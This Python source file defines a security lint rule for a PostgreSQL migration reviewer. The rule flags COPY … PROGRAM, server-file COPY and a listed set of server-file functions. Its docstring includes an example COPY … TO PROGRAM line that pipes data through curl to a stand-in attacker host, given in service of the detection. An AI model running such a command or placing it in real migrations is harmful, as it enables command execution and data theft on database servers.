from __future__ import annotations

from collections.abc import Iterator

from migration_reviewer.analyzers.context import AnalysisContext
from migration_reviewer.analyzers.finding import Category, Issue, Severity
from migration_reviewer.analyzers.registry import rule
from migration_reviewer.analyzers.security._escape import called_functions, issue

# Superuser-only (or pg_read_server_files / pg_write_server_files) functions that touch the server's files.
_FILE_FUNCTIONS = {
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "lo_import",
    "lo_export",
    "pg_file_write",
}


@rule(
    "SC101", "copy-program-or-server-file", Category.SECURITY, Severity.ERROR, {"postgresql"}, lintable=True
)
def copy_program_or_server_file(ctx: AnalysisContext) -> Iterator[Issue]:
    """A migration that runs a shell command or reads or writes the database server's files.

    ## What it does
    Reports `COPY … TO/FROM PROGRAM`, `COPY … TO/FROM '/a/server/file'` and calls of the server-file
    functions (`pg_read_file`, `pg_ls_dir`, `lo_import`, `lo_export`…), also inside DO blocks and function
    bodies.

    ## Why is this risky?
    They run as the operating-system user of the database server: a migration with them can execute any
    command on it, read its configuration and keys, or plant files. A schema change has no reason to.

    ## Example
    ```sql
    COPY (SELECT current_user) TO PROGRAM 'curl -d @- https://attacker.invalid';
    ```

    ## Use instead
    ```sql
    COPY users TO STDOUT;
    ```
    Data moves through the client (`psql \\copy`, the application), never through the server's shell
    or disk.
    """
    for stmt in ctx.statements:
        body = stmt.body
        if stmt.kind == "CopyStmt" and body.get("filename"):
            direction = "FROM" if body.get("is_from") else "TO"
            if body.get("is_program"):
                what = f"`COPY … {direction} PROGRAM` runs a shell command on the database server."
            else:
                target = body["filename"]
                what = f"`COPY … {direction} '{target}'` reads or writes a file on the database server."
            yield issue(stmt, what, "copy through the client (`COPY … TO STDOUT`, `\\copy`), not the server")
            continue
        used = sorted(called_functions(stmt, _FILE_FUNCTIONS))
        if used:
            yield issue(
                stmt,
                f"`{used[0]}()` reads or writes files on the database server.",
                "a migration changes the schema; load data through the client",
            )
